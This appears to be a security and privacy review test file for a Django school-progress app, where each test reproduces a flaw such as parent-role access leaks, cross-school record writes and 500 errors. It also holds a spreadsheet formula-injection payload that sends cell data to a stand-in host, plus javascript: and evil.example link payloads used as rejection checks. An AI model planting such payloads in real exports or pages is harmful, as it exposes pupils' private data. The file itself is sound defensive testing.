"""Scratch review tests (privacy review of strides/steps). Each test ASSERTS THE HOLE: passing = reproduced."""

import datetime as dt
import io
import json

import pytest
from django.urls import reverse

from strides.accounts import services as accounts
from strides.steps.models import AchievementRecord, Conversation, Shape
from strides.steps.queries import current_term, term_window
from strides.steps.services.recording import (
    RecordInput,
    assign_framework,
    record_achievements,
    share_progress_page,
)
from strides.steps.tests.api_fixtures import api  # noqa: F401
from strides.testing.api import api_client

pytestmark = pytest.mark.django_db


def _conversation(c, steps, pupil, school, *, held=True, attendees="Secret Attendee", outcome=""):
    term = current_term(c.year, dt.date.today())
    return Conversation.objects.create(
        pupil=pupil,
        school=school,
        area=steps.communication,
        academic_year=c.year,
        term=term,
        crossing="below",
        progress_percent=0,
        below_percent=2,
        above_percent=20,
        held_on=dt.date.today() if held else None,
        attendees=attendees if held else "",
        agreed_action="other" if held else "",
        agreed_detail="Agreed detail" if held else "",
        outcome=outcome,
    )


# --- F1: a teacher who is also a parent writes (closes) their own child's conversation via the page
def test_f1_teacher_parent_closes_own_childs_conversation(steps, client_for):
    c = steps.cast
    conv = _conversation(c, steps, c.ben, c.north)  # Ben is in 3B, not the teacher's class
    client = client_for(c.teacher)
    url = reverse("steps:conversation", kwargs={"conversation_id": conv.pk})
    assert client.get(url).status_code == 404  # control: not theirs as staff
    accounts.link_parent(None, c.teacher, c.ben, c.trust, "father")
    share_progress_page(c.head, c.north, c.ben)
    page = client.get(url)
    assert page.status_code == 200
    assert "Secret Attendee" in page.content.decode()  # who met, read through parent reach
    # the API refuses (as_staff) ...
    api_answer = api_client(c.teacher).post(
        f"/api/v1/step-conversations/{conv.pk}/close/", {"outcome": "x"}, format="json"
    )
    assert api_answer.status_code == 404
    # ... but the page lets the parent reach write
    done = client.post(url, {"step": "close", "outcome": "Closed by a parent-teacher"})
    assert done.status_code == 302
    conv.refresh_from_db()
    assert conv.closed_at is not None and conv.closed_by_id == c.teacher.pk


# --- F2: staff who are also parents get the staff "details" of their own child's conversations
def test_f2_head_parent_reads_who_met_at_another_school(steps, client_for):
    c = steps.cast
    conv = _conversation(c, steps, c.ava, c.north, outcome="Secret outcome")
    accounts.link_parent(None, c.river_head, c.ava, c.trust, "mother")
    share_progress_page(c.head, c.north, c.ava)
    body = api_client(c.river_head).get("/api/v1/step-conversations/").json()
    rows = body["results"] if isinstance(body, dict) and "results" in body else body
    [row] = [r for r in rows if r["id"] == conv.pk]
    assert row["attendees"] == "Secret Attendee"
    assert row["outcome"] == "Secret outcome"
    # the pupil page and conversation page too
    page = client_for(c.river_head).get(reverse("steps:pupil", kwargs={"pupil_id": c.ava.pk}))
    assert "Secret Attendee" in page.content.decode()
    one = client_for(c.river_head).get(reverse("steps:conversation", kwargs={"conversation_id": conv.pk}))
    assert one.status_code == 200 and "Secret" in one.content.decode()
    # control: the plain parent does not
    body = api_client(c.parent).get("/api/v1/step-conversations/").json()
    rows = body["results"] if isinstance(body, dict) and "results" in body else body
    assert all(r["attendees"] is None for r in rows)


# --- F3: leavers: the old school still records, learns the new school's version count, similar learners
@pytest.fixture
def mover(steps):
    from strides.testing.cast import add_mover

    c = steps.cast
    add_mover(c)
    assign_framework(None, c.north, c.mia, steps.framework, c.mia_joined)
    assign_framework(None, c.river, c.mia, steps.framework, c.mia_left + dt.timedelta(days=1))
    term = current_term(c.year, dt.date.today())
    window = term_window(c.year, term)
    day = max(window.starts + dt.timedelta(days=1), c.mia_left + dt.timedelta(days=2))
    day = min(day, dt.date.today())
    # river (her new school) records this term
    for version, code in enumerate(["D", "S"]):
        for st in ("C1.1", "C1.2", "C1.3", "C1.4"):
            record_achievements(
                c.river_head,
                c.river,
                [RecordInput(c.mia, steps.statements[st], code, expected_version=version)],
                assessed_on=day,
            )
    return c


def test_f3a_old_school_records_for_leaver_and_learns_new_schools_versions(steps, mover):
    c = mover
    answer = api_client(c.head).post(
        "/api/v1/achievement-records/",
        {"school": c.north.urn, "pupil": c.mia.pk, "statement": steps.statements["C1.1"].pk, "level": "0",
         "expected_version": 0},
        format="json",
    )
    print(answer.status_code, answer.json())
    assert answer.status_code == 409 and answer.json()["current_version"] == 2  # river's two records
    ok = api_client(c.head).post(
        "/api/v1/achievement-records/",
        {"school": c.north.urn, "pupil": c.mia.pk, "statement": steps.statements["C1.1"].pk, "level": "0",
         "expected_version": 2},
        format="json",
    )
    assert ok.status_code == 201  # north writes a record for a pupil who left it 60 days ago


def test_f3b_old_school_sees_similar_learners_from_new_schools_records(steps, mover, client_for):
    c = mover
    from strides.steps.page_helpers import similar_for_pupil

    rows = similar_for_pupil(c.mia, c.north, dt.date.today())
    print(rows)
    assert rows and rows[0]["progress_percent"] > 0  # built from river's records only
    page = client_for(c.head).get(reverse("steps:pupil", kwargs={"pupil_id": c.mia.pk}) + "?part=similar")
    print(page.content.decode()[:1500])
    assert page.status_code == 200 and "Communication" in page.content.decode().title()


def test_f3c_old_school_reassigns_leaver_and_pulls_her_into_its_analysis(steps, mover, client_for):
    c = mover
    client = client_for(c.head)
    url = reverse("steps:analysis", kwargs={"urn": c.north.urn})
    before = client.get(url + "?wait=1&by=nc_year").content.decode()
    answer = client.post(
        reverse("steps:pupil_manage", kwargs={"pupil_id": c.mia.pk}),
        {"action": "assign", "framework": steps.framework.pk, "starts_on": dt.date.today().isoformat(),
         "school": c.north.pk},
    )
    assert answer.status_code == 302
    from strides.steps.models import StepAssignment

    assert StepAssignment.objects.filter(pupil=c.mia, school=c.north, starts_on=dt.date.today()).exists()
    after = client.get(url + "?wait=1&by=nc_year").content.decode()
    print(before[before.find("<tbody>"):before.find("</tbody>")])
    print(after[after.find("<tbody>"):after.find("</tbody>")])
    assert "Year 7" in after and "Year 7" not in before  # Mia (Year 7 at river) now in north's figures


# --- F4: grid save / API accept statements of a framework the pupil does not follow
def test_f4_grid_save_statement_of_unassigned_framework(steps, client_for):
    c = steps.cast
    from strides.steps.services.frameworks import build_structure, create_framework
    from strides.steps.tests.conftest import linear_rows

    other = create_framework(c.analyst, code="other-fw", name="Other", shape=Shape.LINEAR, trust=c.trust)
    build_structure(c.analyst, other, linear_rows())  # not shared, not assigned to anyone
    statement = other.areas.get(code="communication").statements.first()
    url = reverse("steps:grid_save", kwargs={"group_id": c.class_3t.pk})
    cell = {"pupil": c.ava.pk, "statement": statement.pk, "code": "S", "version": 0}
    answer = client_for(c.teacher).post(url, json.dumps({"cells": [cell]}), content_type="application/json")
    print(answer.json())
    assert answer.json()["answers"][0]["ok"] is True  # an unshared trust draft, never assigned


# --- F5: odd input answers 500
def test_f5a_pupil_record_bad_version_is_500(steps, client_for):
    c = steps.cast
    client = client_for(c.teacher)
    client.raise_request_exception = False
    url = reverse("steps:pupil_record", kwargs={"pupil_id": c.ava.pk})
    st = steps.statements["C1.1"]
    r = client.post(url, {f"level-{st.pk}": "S", f"version-{st.pk}": "abc"})
    assert r.status_code == 500


def test_f5b_pupil_record_superscript_rating_is_500(steps, client_for):
    c = steps.cast
    client = client_for(c.teacher)
    client.raise_request_exception = False
    url = reverse("steps:pupil_record", kwargs={"pupil_id": c.ava.pk})
    st = steps.statements["C1.1"]
    r = client.post(url, {f"level-{st.pk}": "S", f"independence-{st.pk}": "\u00b2"})
    assert r.status_code == 500


def test_f5c_grid_save_huge_id(steps, client_for):
    c = steps.cast
    client = client_for(c.teacher)
    client.raise_request_exception = False
    url = reverse("steps:grid_save", kwargs={"group_id": c.class_3t.pk})
    cell = {"pupil": 10**30, "statement": 10**30, "code": "S", "version": 0}
    r = client.post(url, json.dumps({"cells": [cell]}), content_type="application/json")
    print(r.status_code)
    assert r.status_code == 500


def test_f5d_grid_save_bad_version_type(steps, client_for):
    c = steps.cast
    client = client_for(c.teacher)
    client.raise_request_exception = False
    url = reverse("steps:grid_save", kwargs={"group_id": c.class_3t.pk})
    cell = {"pupil": c.ava.pk, "statement": steps.statements["C1.1"].pk, "code": "S", "version": [1]}
    r = client.post(url, json.dumps({"cells": [cell], "assessed_on": 5}), content_type="application/json")
    print(r.status_code, r.content[:300])


# --- F6: formula injection in the analysis XLSX (class names, area names)
def test_f6_xlsx_formula_injection(steps, client_for):
    from openpyxl import load_workbook

    from strides.classes import services as classes

    c = steps.cast
    evil = classes.create_group(None, c.north, c.year, '=HYPERLINK("https://x.invalid/?"&A1,"open")', nc_year=3)
    classes.set_pupils(None, evil, [c.ava])
    term = current_term(c.year, dt.date.today())
    window = term_window(c.year, term)
    record_achievements(
        c.teacher, c.north, [RecordInput(c.ava, steps.statements["C1.1"], "S", expected_version=0)],
        assessed_on=min(window.starts + dt.timedelta(days=1), dt.date.today()),
    )
    r = client_for(c.head).get(reverse("steps:analysis", kwargs={"urn": c.north.urn}) + "?wait=1&by=class&format=xlsx")
    book = load_workbook(io.BytesIO(r.content))
    cells = [cell for row in book.active.iter_rows() for cell in row if str(cell.value).startswith("=")]
    print([(x.coordinate, x.value, x.data_type) for x in cells])
    assert cells and cells[0].data_type == "f"


# --- checks expected to hold (controls)
def test_ok_other_teacher_and_river_head_get_404(steps, client_for, ava_record):
    c = steps.cast
    for user in (c.other_teacher, c.river_head, c.placing, c.governor):
        client = client_for(user)
        assert client.get(reverse("steps:pupil", kwargs={"pupil_id": c.ava.pk})).status_code == 404, user
        assert client.get(reverse("steps:pupil_record", kwargs={"pupil_id": c.ava.pk})).status_code in (403, 404)
        api = api_client(user)
        assert api.get(f"/api/v1/achievement-records/{ava_record.pk}/").status_code == 404
        listed = api.get("/api/v1/achievement-records/")
        body = listed.json()
        rows = body.get("results", body) if isinstance(body, dict) else body
        assert listed.status_code in (200, 404) and not [r for r in (rows or []) if isinstance(r, dict) and r.get("id")], user
        assert api.get(f"/api/v1/step-progress/{c.ava.pk}/").status_code == 404, user
        post = api.post(
            "/api/v1/achievement-records/",
            {"school": c.north.urn, "pupil": c.ava.pk, "statement": steps.statements["C1.2"].pk, "level": "S",
             "expected_version": 0},
            format="json",
        )
        assert post.status_code in (400, 403, 404), (user, post.status_code)
    assert client_for(c.river_head).get(reverse("steps:analysis", kwargs={"urn": c.north.urn})).status_code == 404
    assert client_for(c.river_head).post(
        reverse("steps:pupil_manage", kwargs={"pupil_id": c.ava.pk}), {"action": "share"}
    ).status_code == 404
    assert AchievementRecord.objects.count() == 1


def test_ok_ta_refused_outside_delegation(steps, client_for):
    c = steps.cast
    api = api_client(c.ta)
    post = api.post(
        "/api/v1/achievement-records/",
        {"school": c.north.urn, "pupil": c.ava.pk, "statement": steps.statements["N1.1"].pk, "level": "S",
         "expected_version": 0},
        format="json",
    )
    assert post.status_code == 403
    r = client_for(c.ta).post(
        reverse("steps:pupil_record", kwargs={"pupil_id": c.ava.pk}),
        {"area": steps.number.pk, f"level-{steps.statements['N1.1'].pk}": "S"},
    )
    assert r.status_code in (403, 404)
    r = client_for(c.ta).post(
        reverse("steps:group", kwargs={"group_id": c.class_3t.pk}),
        {"framework": steps.framework.pk, "area": steps.number.pk, "statement": steps.statements["N1.1"].pk,
         "pupils": [c.ava.pk], "level": "S", "assessed_on": dt.date.today().isoformat()},
    )
    url = reverse("steps:grid_save", kwargs={"group_id": c.class_3t.pk})
    cell = {"pupil": c.ava.pk, "statement": steps.statements["N1.1"].pk, "code": "S", "version": 0}
    g = client_for(c.ta).post(url, json.dumps({"cells": [cell]}), content_type="application/json")
    assert g.json()["answers"][0]["ok"] is False
    assert AchievementRecord.objects.count() == 0


def test_ok_parent_before_share_and_evidence(steps, client_for, ava_record):
    c = steps.cast
    assert api_client(c.parent).get(f"/api/v1/achievement-records/{ava_record.pk}/").status_code == 404
    page = client_for(c.parent).get(reverse("steps:pupil", kwargs={"pupil_id": c.ava.pk}))
    assert "has not shared" in page.content.decode()
    assert client_for(c.parent).get(reverse("steps:pupil", kwargs={"pupil_id": c.ben.pk})).status_code == 404
    from strides.steps.services import StepsError
    from strides.steps.services.recording import check_links

    for bad in ("javascript:alert(1)", "JAVASCRIPT://x%0aalert(1)", " javascript:alert(1)", "data:text/html,x",
                "java\tscript://x/%0aalert(1)", "//evil.example/x"):
        with pytest.raises(StepsError):
            check_links([bad])


def test_ok_placing_page(steps, client_for):
    c = steps.cast
    assign_framework(None, c.bridge, c.dev, steps.framework, c.year.starts_on)
    r = client_for(c.placing).get(reverse("steps:pupil", kwargs={"pupil_id": c.dev.pk}))
    print(r.status_code, r.content.decode()[:2000] if r.status_code == 200 else "")
